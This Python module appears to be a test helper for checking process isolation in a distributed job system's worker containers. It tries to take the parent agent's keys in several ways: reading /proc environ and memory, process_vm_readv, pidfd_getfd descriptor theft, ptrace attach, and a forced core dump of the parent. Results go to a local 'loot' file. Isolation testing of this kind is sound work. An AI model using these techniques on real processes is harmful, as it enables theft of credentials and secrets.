"""A process of the user in a worker that looks for the keys of its agent in every place it can reach.

The kernel treats it as a process in the container of a worker: the agent is its parent, and both have
the same user and the capabilities of a container.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import json
import os
import re
import resource
import signal
from collections.abc import Callable
from pathlib import Path

PTRACE_SEIZE, PIDFD_OPEN, PIDFD_GETFD, PROCESS_VM_READV = 0x4206, 434, 438, 310  # of x86-64
DESCRIPTORS = 64  # more than an agent of a test has
CHUNK = 1 << 20
LIBC = ctypes.CDLL(None, use_errno=True)
Attempt = Callable[[Path], bytes]  # with the folder of the agent in /proc


class Memory(ctypes.Structure):
    """Memory of a process, as the kernel takes it."""

    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def _read(path: Path) -> bytes:
    with path.open("rb") as file:
        return file.read(CHUNK)


def _checked(result: int) -> int:
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return result


def _memory(agent: Path) -> bytes:
    spans = re.findall(rb"^(\w+)-(\w+) rw", _read(agent / "maps"), re.MULTILINE)
    with (agent / "mem").open("rb", 0) as memory:
        found = b""
        for first, last in spans:
            memory.seek(int(first, 16))
            with contextlib.suppress(OSError):
                found += memory.read(int(last, 16) - int(first, 16))
        return found


def _opened_memory(agent: Path) -> bytes:
    with (agent / "mem").open("rb", 0):
        return b"opened"


def _copied_memory(agent: Path) -> bytes:
    """Have the kernel copy a page, wherever it is: a bad address shows that the call is admitted."""
    here = ctypes.create_string_buffer(16)
    local, remote = Memory(ctypes.addressof(here), 16), Memory(id(None), 16)
    sides = (ctypes.byref(local), 1, ctypes.byref(remote), 1)
    result = LIBC.syscall(PROCESS_VM_READV, int(agent.name), *sides, 0)
    if result < 0 and ctypes.get_errno() == errno.EFAULT:
        return b"admitted"
    _checked(result)
    return here.raw


def _descriptors(agent: Path) -> bytes:
    pidfd = _checked(LIBC.syscall(PIDFD_OPEN, int(agent.name), 0))
    taken = [LIBC.syscall(PIDFD_GETFD, pidfd, number, 0) for number in range(DESCRIPTORS)]
    return b"%d" % _checked(max(taken))


def _attach(agent: Path) -> bytes:
    _checked(LIBC.ptrace(PTRACE_SEIZE, int(agent.name), None, None))
    return b"attached"


def _list(agent: Path) -> bytes:
    return " ".join(str(each.readlink()) for each in (agent / "fd").iterdir()).encode()


def _file(name: str) -> Attempt:
    return lambda agent: _read(agent / name)


FORBIDDEN: dict[str, Attempt] = {
    "environment": _file("environ"),
    "environment of a thread": lambda agent: _read(next(agent.glob("task/*/environ"))),
    "auxiliary vector": _file("auxv"),
    "map": _file("maps"),
    "memory": _memory,
    "opened memory": _opened_memory,
    "copied memory": _copied_memory,
    "descriptors": _descriptors,
    "list of descriptors": _list,
    "debugger": _attach,
    "root folder": lambda agent: str((agent / "root").readlink()).encode(),
}
ALLOWED: dict[str, Attempt] = {
    "command line": _file("cmdline"),
    "own environment": lambda _: _read(Path("/proc/self/environ")),
    "own map": lambda _: _read(Path("/proc/self/maps")),
}


def steal(keys_file: str, *folders: str) -> dict[str, object]:
    """Try everything; return the names of what succeeded, and all that was read."""
    inherited = [str(each.readlink()) for each in _inherited()]  # before it opens some
    agent = Path(f"/proc/{os.getppid()}")
    sockets = str(Path(os.environ["DDPJOB_REPORT_SOCKET"]).parent)
    done: list[str] = []
    loot: list[bytes] = []
    attempts: dict[str, Attempt] = {**FORBIDDEN, **ALLOWED}
    attempts["file of keys"] = lambda _: _read(Path(keys_file))
    for name, attempt in attempts.items():
        with contextlib.suppress(OSError, StopIteration):
            loot.append(attempt(agent))
            done.append(name)
    for path in (each for folder in (*folders, sockets) for each in Path(folder).rglob("*")):
        loot.append(str(path).encode())
        if path.is_file():
            loot.append(_read(path))
    listed = Path("/proc/net/unix").read_text().splitlines()
    return {
        "done": done,
        "loot": b"\n".join(loot).hex(),
        "sockets": sorted({Path(line.split()[-1]).name for line in listed if sockets in line}),
        "inherited": inherited,
    }


def _inherited() -> list[Path]:
    """Return the descriptors of this process besides its streams."""
    return [
        each for each in Path("/proc/self/fd").iterdir() if int(each.name) > 2 and each.exists()
    ]


def crash_the_agent() -> None:
    """Have the kernel write the memory of the agent to a file in its folder, if it does that."""
    unlimited = (resource.RLIM_INFINITY, resource.RLIM_INFINITY)
    with contextlib.suppress(OSError, ValueError):
        resource.prlimit(os.getppid(), resource.RLIMIT_CORE, unlimited)
    os.kill(os.getppid(), signal.SIGSEGV)


def main(keys_file: str, *folders: str) -> None:
    """Leave what was found in the file `loot`."""
    Path("loot.new").write_text(json.dumps(steal(keys_file, *folders)))
    Path("loot.new").rename("loot")
